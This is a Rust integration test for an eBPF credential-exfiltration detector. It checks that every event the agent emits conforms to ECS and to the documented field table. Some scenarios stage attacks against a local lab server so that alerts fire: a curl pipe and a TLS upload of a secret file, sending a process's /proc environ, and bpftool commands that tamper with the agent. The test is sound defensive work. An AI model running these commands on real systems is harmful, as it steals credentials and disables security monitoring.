//! Every kind of document the agent writes, made by the real agent on the real kernel, is valid
//! ECS 9.4.0 (the published `@elastic/ecs` definitions) and matches `docs/FIELDS.md`: each field
//! exists with a compatible type, categorisation values are allowed, `vigie.*` fields have the
//! documented types, one field has one type across all documents, and `event.id` is unique.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::fs;
use std::time::Duration;

use anyhow::{ensure, Context, Result};
use integration_tests::bpf_objects;
use integration_tests::ecs_schema::{self, Definitions, FieldsTable};
use integration_tests::full_disk::FullDisk;
use integration_tests::host_tools::{self, quoted};
use integration_tests::remote_server::{certificate, Server};
use integration_tests::sensor::Documents;
use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
use serde_json::Value;

/// Enough bytes that the transfer outlasts a progress report or two.
const TRANSFER: u64 = 4 << 20;
/// The smallest ring the agent accepts: it overflows on a handful of exec records.
const SMALLEST_RING: &str = "4096";
/// Short processes run while the sensor is paused, each making fork, exec and exit records.
const PROCESSES: u32 = 200;
const SERVICE: &str = "test-homeserver";
/// How long the agent's periodic checks of its maps and links may take to see a change.
const TAMPER_TIMEOUT: Duration = Duration::from_secs(20);

/// Every `event.action` the agent has.
const KINDS: [&str; 15] = [
    "sensor-started",
    "output-degraded",
    "journal-degraded",
    "config-reloaded",
    "config-reload-failed",
    "secret-read",
    "secret-read-allowed",
    "secret-derived",
    "credential-exfiltration",
    "agent-tampered",
    "exfiltration-progress",
    "watch-updated",
    "tls-library-probed",
    "events-lost",
    "sensor-stopped",
];

/// A secret file read directly, through a pipe and through a derived file, sent out (its value
/// too, over TLS), then replaced: `sensor-started`, `secret-read`, `secret-derived`, the alerts
/// (plain and confirmed) and a progress report, `watch-updated`, `sensor-stopped`.
fn file_secret_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let mut sensor = lab.sensor()?;
    let dest = lab.remote().tcp_v4();

    let run = lab.actor().read(lab.secret()).open_tcp(dest).send(TRANSFER).run()?;
    sensor.expect(alert::is_progress_by(run.pid), ALERT_TIMEOUT)?;

    let curl = format!("curl -sS -o /dev/null --max-time 10 --data-binary @- {}", host_tools::url(dest));
    host_tools::sh(&format!("cat {} | {curl}", quoted(lab.secret())))?;
    sensor.expect(
        |line| alert::is_exfiltration(line) && alert::via_kind(line) == Some("pipe"),
        ALERT_TIMEOUT,
    )?;

    let copy = lab.dir().join("copy");
    host_tools::run("cp", &[lab.secret(), &copy])?;
    sensor.expect(|line| action(line) == Some("secret-derived"), ALERT_TIMEOUT)?;
    let upload = host_tools::curl_upload(&copy, dest)?;
    sensor.expect(alert::is_exfiltration_by(upload), ALERT_TIMEOUT)?;

    // The secret's value itself in a TLS upload: the confirmed alert.
    let server = Server::start(&lab, Some(&certificate(lab.dir())?))?;
    let secret = lab.secret().display().to_string();
    let https = format!("https://{}/", server.addr);
    let tls =
        host_tools::run("curl", &["-sSk", "-o", "/dev/null", "--max-time", "10", "-T", &secret, &https])?;
    sensor.expect(alert::is_confirmed_by(tls), ALERT_TIMEOUT)?;
    server.received()?;

    let replacement = lab.dir().join(".credentials.tmp");
    fs::write(&replacement, "rotated = not-a-real-key\n")?;
    fs::rename(&replacement, lab.secret())?;
    sensor.expect(alert::is_watch_updated_for(lab.secret()), ALERT_TIMEOUT)?;
    stopped_lines(&mut sensor)
}

/// A trusted service's memory read and sent: `secret-read` under the `process` category, an
/// alert whose secret is no file.
fn process_memory_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let service = lab.start_service()?;
    let mut sensor = lab.sensor_trusting_the_service(SERVICE)?;
    let environ = format!("/proc/{}/environ", service.pid);
    let run = lab.actor().read(&environ).tcp(lab.remote().tcp_v4()).run()?;
    let alert = sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
    ensure!(alert::secret_kind(&alert) == Some("process-memory"), "{alert:#}");
    stopped_lines(&mut sensor)
}

/// An allowed reader opens the secret: `secret-read-allowed`.
fn allowed_read_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let mut sensor = lab.sensor_with(&[OsStr::new("--allow-reader"), lab.actor_exe().as_os_str()])?;
    let run = lab.actor().read(lab.secret()).run()?;
    sensor.expect(alert::is_allowed_read_by(run.pid), ALERT_TIMEOUT)?;
    stopped_lines(&mut sensor)
}

/// A trusted service that maps a copy of the system's libssl, which no loader path names:
/// `tls-library-probed`.
fn tls_probe_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let libssl = sensor_started_tls_library(&lab)?;
    let copy = lab.dir().join("libssl.so.3");
    fs::copy(&libssl, &copy)?;
    let life = Duration::from_mins(1);
    let _service = lab.actor().map_kept(&copy).sleep(life).spawn()?;
    let copy_arg = copy.display().to_string();
    let millis = life.as_millis().to_string();
    let mut sensor = lab.sensor_trusting(SERVICE, &["--map-kept", &copy_arg, "--sleep-ms", &millis])?;
    let probed = sensor.expect(|line| action(line) == Some("tls-library-probed"), ALERT_TIMEOUT)?;
    ensure!(
        probed.pointer("/vigie/tls_probe/path").and_then(Value::as_str) == Some(&*copy_arg),
        "{probed:#}"
    );
    ensure!(
        probed.pointer("/vigie/tls_probe/service").and_then(Value::as_str) == Some(SERVICE),
        "{probed:#}"
    );
    ensure!(probed.pointer("/vigie/tls_probe/error").is_none(), "attached: {probed:#}");
    stopped_lines(&mut sensor)
}

/// A TLS library file the agent probes at start, as `sensor-started` lists them.
fn sensor_started_tls_library(lab: &Lab) -> Result<String> {
    let mut sensor = lab.sensor()?;
    let started = sensor.expect(|line| action(line) == Some("sensor-started"), ALERT_TIMEOUT)?;
    let libraries = started.pointer("/vigie/tls_libraries").and_then(Value::as_array);
    let libssl = libraries
        .and_then(|all| all.iter().filter_map(Value::as_str).find(|path| path.ends_with("/libssl.so.3")))
        .map(str::to_owned)
        .context("sensor-started lists no libssl.so.3")?;
    stopped_lines(&mut sensor)?;
    Ok(libssl)
}

/// A ring buffer too small for what runs while the agent is paused: `events-lost`.
fn events_lost_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let mut sensor = lab.sensor_with(&["--ring-buffer-bytes", SMALLEST_RING])?;
    sensor.pause()?;
    host_tools::sh(&format!("i=0; while [ $i -lt {PROCESSES} ]; do /bin/true; i=$((i+1)); done"))?;
    sensor.resume()?;
    sensor.expect(alert::is_events_lost, ALERT_TIMEOUT)?;
    stopped_lines(&mut sensor)
}

/// SIGHUP with the configuration unchanged, then broken: `config-reloaded`,
/// `config-reload-failed`.
fn config_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let config = lab.dir().join("vigie.toml");
    fs::write(&config, "secrets = []\n")?;
    let mut sensor = lab.sensor_with(&["--config".as_ref(), config.as_os_str()])?;
    sensor.signal(libc::SIGHUP)?;
    sensor.expect(|line| action(line) == Some("config-reloaded"), ALERT_TIMEOUT)?;
    fs::write(&config, "secretz = []\n")?;
    sensor.signal(libc::SIGHUP)?;
    sensor.expect(|line| action(line) == Some("config-reload-failed"), ALERT_TIMEOUT)?;
    stopped_lines(&mut sensor)
}

/// A journal on a full disk: `journal-degraded` once a secret's read fails to be written.
fn journal_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let disk = FullDisk::mount(&lab.dir().join("full"))?;
    let journal = disk.dir().join("journal.db");
    let mut sensor = lab.sensor_with(&["--journal".as_ref(), journal.as_os_str()])?;
    disk.fill()?;
    let run = lab.actor().read(lab.secret()).run()?;
    sensor.expect(alert::is_secret_read_by(run.pid), ALERT_TIMEOUT)?;
    sensor.expect(|line| action(line) == Some("journal-degraded"), ALERT_TIMEOUT)?;
    stopped_lines(&mut sensor)
}

/// A foreign entry written into an agent map and a link of the agent detached, by bpftool:
/// `agent-tampered` (the signals of the other scenarios make it too).
fn tamper_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let mut sensor = lab.sensor()?;
    let allowed = bpf_objects::map_id(sensor.pid(), "ALLOWED_EXES")?;
    let key = "01 00 00 00 00 00 00 00 03 00 00 00 00 00 00 00";
    host_tools::sh(&format!("bpftool map update id {allowed} key hex {key} value hex 01"))?;
    let link = *bpf_objects::links_of_type(sensor.pid(), "cgroup")?.first().context("no cgroup link")?;
    host_tools::run("bpftool", &["link", "detach", "id", &link.to_string()])?;
    let kind = |kind: &'static str| {
        move |line: &Value| line.pointer("/vigie/tamper/kind") == Some(&Value::from(kind))
    };
    sensor.expect(kind("map-changed"), TAMPER_TIMEOUT)?;
    sensor.expect(kind("link-detached"), TAMPER_TIMEOUT)?;
    stopped_lines(&mut sensor)
}

/// A stdout whose reader went away after 100 bytes: `output-degraded`, on stderr.
fn output_documents() -> Result<Vec<Value>> {
    let lab = Lab::new(actor_exe!())?;
    let mut sensor = lab.sensor_reading::<&str>(&Documents::StderrAfterHead(100), &[])?;
    lab.barrier(&sensor)?;
    sensor.expect(|line| action(line) == Some("output-degraded"), ALERT_TIMEOUT)?;
    let status = sensor.stop()?;
    ensure!(status.success(), "vigie exited with {status}");
    Ok(sensor.lines())
}

/// Stops the sensor and returns every line it wrote, `sensor-stopped` last.
fn stopped_lines(sensor: &mut Sensor) -> Result<Vec<Value>> {
    let status = sensor.stop()?;
    ensure!(status.success(), "vigie exited with {status}");
    let lines = sensor.lines();
    ensure!(lines.last().is_some_and(alert::is_sensor_stopped), "sensor-stopped comes last");
    Ok(lines)
}

fn action(line: &Value) -> Option<&str> {
    line.pointer("/event/action").and_then(Value::as_str)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn every_document_kind_is_valid_ecs_and_documented() -> Result<()> {
    let ecs = Definitions::load()?;
    let table = FieldsTable::load()?;
    let mut documents = file_secret_documents().context("file secret scenario")?;
    documents.extend(process_memory_documents().context("process memory scenario")?);
    documents.extend(allowed_read_documents().context("allowed reader scenario")?);
    documents.extend(tls_probe_documents().context("mapped TLS library scenario")?);
    documents.extend(events_lost_documents().context("events lost scenario")?);
    documents.extend(config_documents().context("configuration reload scenario")?);
    documents.extend(output_documents().context("closed output scenario")?);
    documents.extend(journal_documents().context("full journal disk scenario")?);
    documents.extend(tamper_documents().context("tampered agent scenario")?);

    let mut by_kind: BTreeMap<&str, usize> = BTreeMap::new();
    for document in &documents {
        *by_kind.entry(action(document).unwrap_or("?")).or_default() += 1;
    }
    eprintln!("{} documents checked: {by_kind:?}", documents.len());
    for kind in KINDS {
        ensure!(by_kind.contains_key(kind), "no {kind} document was made");
    }
    let categories: BTreeSet<&str> = documents
        .iter()
        .filter(|d| action(d) == Some("secret-read"))
        .filter_map(|d| d.pointer("/event/category/0").and_then(Value::as_str))
        .collect();
    ensure!(categories == BTreeSet::from(["file", "process"]), "secret-read categories: {categories:?}");
    let vias: BTreeSet<&str> = documents.iter().filter_map(alert::via_kind).collect();
    ensure!(vias == BTreeSet::from(["file", "pipe", "process-memory"]), "vias: {vias:?}");

    ensure!(ecs.version == ecs_schema::ECS_VERSION, "definitions of ECS {}", ecs.version);
    let claimed: BTreeSet<&str> =
        documents.iter().filter_map(|d| d.pointer("/ecs/version").and_then(Value::as_str)).collect();
    ensure!(claimed == BTreeSet::from([ecs_schema::ECS_VERSION]), "ecs.version: {claimed:?}");

    let ids: Vec<&str> =
        documents.iter().filter_map(|d| d.pointer("/event/id").and_then(Value::as_str)).collect();
    let unique: BTreeSet<&str> = ids.iter().copied().collect();
    ensure!(ids.len() == documents.len() && unique.len() == ids.len(), "event.id missing or repeated");

    let problems = ecs_schema::check(&documents, &ecs, &table);
    ensure!(problems.is_empty(), "{} problems:\n{}", problems.len(), problems.join("\n"));

    let seen = ecs_schema::fields_of(&documents);
    let unseen: Vec<&str> = table.fields().filter(|f| !seen.contains(*f)).collect();
    eprintln!("documented fields no scenario made: {unseen:?}");
    Ok(())
}
